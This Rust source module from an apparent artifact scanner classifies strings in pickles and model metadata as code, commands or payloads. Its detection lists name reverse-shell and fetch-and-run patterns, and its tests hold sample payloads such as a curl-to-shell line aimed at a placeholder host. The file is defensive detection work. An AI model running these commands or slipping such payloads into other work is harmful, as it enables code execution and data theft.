//! Words and texts that are code: shared by calls in pickles, marshalled functions, metadata and templates.

use trueline_facts::artifact::Verdict;

use crate::inspection::{Inspection, printable};
use crate::technique;

/// How much a text looks like code or a command.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
pub(crate) enum Code {
    No,
    Maybe,
    Yes,
}

/// A word of code that reaches outside of it.
pub(crate) fn dangerous_word(word: &str) -> bool {
    const WORDS: &[&str] = &[
        "Popen",
        "Thread",
        "__import__",
        "__subclasses__",
        "b64decode",
        "base64",
        "breakpoint",
        "builtins",
        "builtins.eval",
        "builtins.exec",
        "check_call",
        "check_output",
        "compile",
        "ctypes",
        "environ",
        "eval",
        "exec",
        "execv",
        "execve",
        "getattr",
        "getenv",
        "globals",
        "http.client",
        "import_module",
        "importlib",
        "loads",
        "marshal",
        "nt",
        "numpy_function",
        "open",
        "os",
        "os.system",
        "pdb",
        "pickle",
        "popen",
        "posix",
        "posix.system",
        "pty",
        "py_function",
        "read_file",
        "requests",
        "rmtree",
        "runpy",
        "shutil",
        "socket",
        "spawn",
        "subprocess",
        "subprocess.Popen",
        "sys",
        "system",
        "tempfile",
        "threading",
        "unlink",
        "urllib",
        "urllib.request",
        "urlopen",
        "urlretrieve",
        "webbrowser",
        "write_bytes",
        "write_file",
        "write_text",
    ];
    WORDS.binary_search(&word).is_ok()
}

/// Of an argument of a call: there a command is a command.
pub(crate) fn code_like(text: &str) -> Code {
    const CERTAIN: &[&str] = &[
        "__import__(",
        "import os",
        "import subprocess",
        "import socket",
        "import sys",
        "import base64",
        "os.system",
        "os.popen",
        "subprocess.",
        "eval(",
        "exec(",
        "compile(",
        "/bin/sh",
        "/bin/bash",
        "bash -c",
        "bash -i",
        "sh -c",
        "powershell",
        "cmd.exe",
        "cmd /c",
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "curl http",
        "curl -",
        "wget http",
        "wget -",
        "nc -",
        "ncat ",
        "/dev/tcp/",
        "rm -rf",
        "python -c",
        "python3 -c",
        "perl -e",
        "ruby -e",
        "chmod +x",
        "$(",
        "b64decode(",
        "__builtins__",
        "__globals__",
        "__subclasses__",
        "open('/etc",
        "open(\"/etc",
        "/etc/passwd",
        "/etc/shadow",
        "print(",
    ];
    const COMMANDS: &[&str] = &[
        "echo", "touch", "curl", "wget", "bash", "sh", "zsh", "python", "python3", "perl", "ruby",
        "node", "nc", "ncat", "netcat", "whoami", "uname", "ping", "nslookup", "dig", "cat", "rm",
        "chmod", "chown", "mkfifo", "telnet", "ssh", "scp", "calc", "calc.exe", "notepad", "xcalc",
        "open", "certutil", "mshta", "rundll32", "reg", "schtasks", "crontab", "ifconfig",
        "ipconfig",
    ];
    if text.len() < 2 {
        return Code::No;
    }
    let lower = text.get(..4096).unwrap_or(text).to_ascii_lowercase();
    if CERTAIN.iter().any(|piece| lower.contains(piece)) {
        return Code::Yes;
    }
    let mut words = lower.split_whitespace();
    let first = words.next().unwrap_or_default();
    let command = first.rsplit('/').next().unwrap_or_default();
    let has_more = words.next().is_some();
    if COMMANDS.contains(&command)
        && (has_more || matches!(command, "whoami" | "calc" | "calc.exe" | "xcalc"))
    {
        return Code::Maybe;
    }
    if lower.starts_with("http://") || lower.starts_with("https://") || lower.starts_with("/etc/") {
        return Code::Maybe;
    }
    Code::No
}

/// What only code and commands are written with.
const PIECES: &[&str] = &[
    "__import__(",
    "os.system",
    "os.popen",
    "subprocess.",
    "/bin/sh",
    "/bin/bash",
    "bash -c",
    "bash -i",
    "powershell",
    "cmd.exe",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "curl http",
    "wget http",
    "/dev/tcp/",
    "rm -rf /",
    "python -c",
    "python3 -c",
    "__builtins__",
    "__globals__",
    "__subclasses__",
    "exec(base64",
    "eval(compile",
];

/// Text that is code or a command for certain.
pub(crate) fn is_code(text: &str) -> bool {
    has_code(text, PIECES)
}

/// The same of notes, where the name of a function is a word of a sentence until it is called.
fn is_code_in_notes(text: &str) -> bool {
    const CALLED: &[&str] = &["os.system", "os.popen", "subprocess."];
    let lower = text.to_ascii_lowercase();
    let names: Vec<&str> = PIECES
        .iter()
        .copied()
        .filter(|piece| !CALLED.contains(piece))
        .collect();
    has_code(text, &names)
        || CALLED.iter().any(|name| {
            memchr::memmem::find_iter(lower.as_bytes(), name).any(|at| {
                let rest = &lower.as_bytes()[at + name.len()..];
                let more = rest
                    .iter()
                    .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_');
                rest[more.count()..].trim_ascii_start().starts_with(b"(")
            })
        })
}

fn has_code(text: &str, pieces: &[&str]) -> bool {
    let lower = text.to_ascii_lowercase();
    pieces.iter().any(|piece| lower.contains(piece))
}

/// A value that should be data and is code. Sentences name functions, and documents list texts: there only what can be
/// meant for nothing else counts.
pub(crate) fn code_in_data(inspection: &mut Inspection, key: &str, value: &str) {
    let head = &value[..value.floor_char_boundary(1 << 16)];
    let is_text = is_sentence(head) || is_document(head);
    let is_code = if is_text {
        is_payload(head)
    } else {
        is_code_in_notes(head)
    };
    if is_code {
        inspection.report(
            if is_payload(head) {
                Verdict::Malicious
            } else {
                Verdict::Suspicious
            },
            technique::METADATA_CODE,
            0,
            format!(
                "the metadata value of {} looks like code or a command",
                printable(key)
            ),
        );
    }
}

/// Three words before any sign: a note. Code and commands have signs sooner, or begin with words of their own.
fn is_sentence(text: &str) -> bool {
    const STATEMENTS: &[&str] = &[
        "assert", "async", "class", "def", "del", "exec", "eval", "for", "from", "global", "if",
        "import", "lambda", "print", "raise", "return", "sudo", "try", "while", "with", "yield",
    ];
    let is_sign = |c: char| !(c.is_alphanumeric() || matches!(c, ' ' | ',' | '\'' | '-'));
    let start = text.trim_start().split(is_sign).next().unwrap_or_default();
    let mut words = start.split_whitespace();
    let first = words.next().unwrap_or_default();
    let is_word = |word: &str| word.trim_end_matches(',').chars().all(char::is_alphabetic);
    is_word(first)
        && !STATEMENTS.contains(&first)
        && code_like(start) == Code::No
        && words.filter(|word| is_word(word)).count() >= 2
}

/// A JSON document.
fn is_document(text: &str) -> bool {
    text.trim_start().starts_with(['{', '['])
        && serde_json::from_str::<serde::de::IgnoredAny>(text).is_ok()
}

/// Text that can only be meant to be run: nobody describes a model so.
pub(crate) fn is_payload(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let piped = ["| sh", "|sh", "| bash", "|bash", "/dev/tcp/"]
        .iter()
        .any(|piece| lower.contains(piece));
    let fetched = ["curl ", "wget ", "bash -i", "nc -e"]
        .iter()
        .any(|piece| lower.contains(piece));
    let imported = lower.contains("__import__(")
        && (lower.contains(".system(")
            || lower.contains("popen(")
            || lower.contains("exec(")
            || lower.contains("eval("));
    (piped && fetched)
        || imported
        || lower.contains("exec(base64")
        || lower.contains("eval(compile(")
        || lower.contains("exec(__import__")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_are_told_from_notes() {
        assert!(is_payload("__import__('os').system('x')"));
        assert!(is_payload("curl http://x.example/a | sh"));
        assert!(!is_payload("trained with subprocess.run and os.system"));
        assert!(is_code_in_notes("os.system ('x')") && is_code_in_notes("subprocess.run(a)"));
        assert!(!is_code_in_notes(
            "os.system is not called, nor is subprocess.run"
        ));
        assert!(dangerous_word("popen") && dangerous_word("__import__"));
        assert!(!dangerous_word("kernel"));
    }

    #[test]
    fn notes_and_documents_are_told_from_code() {
        assert!(
            is_sentence("trained with os.system('x')") && is_sentence("run on Windows, in a shell")
        );
        assert!(is_document(r#"{"0": "person", "1": "__import__('os')"}"#));
        for code in [
            "import os as x; os.system('a')",
            "os.system('x')",
            "rm -rf /",
            "bash run it all",
            "f(a b c)",
        ] {
            assert!(!is_sentence(code) && !is_document(code), "{code}");
        }
    }

    #[test]
    fn a_character_across_the_bound_hides_no_code() {
        for shift in 0..4 {
            let value = format!(
                "__import__('os').system('x'){}{}",
                "a".repeat(shift),
                "\u{1f600}".repeat(20_000)
            );
            let mut inspection = Inspection::new(value.len() as u64);
            code_in_data(&mut inspection, "note", &value);
            assert_eq!(inspection.into_parts().0, Verdict::Malicious, "{shift}");
        }
    }
}
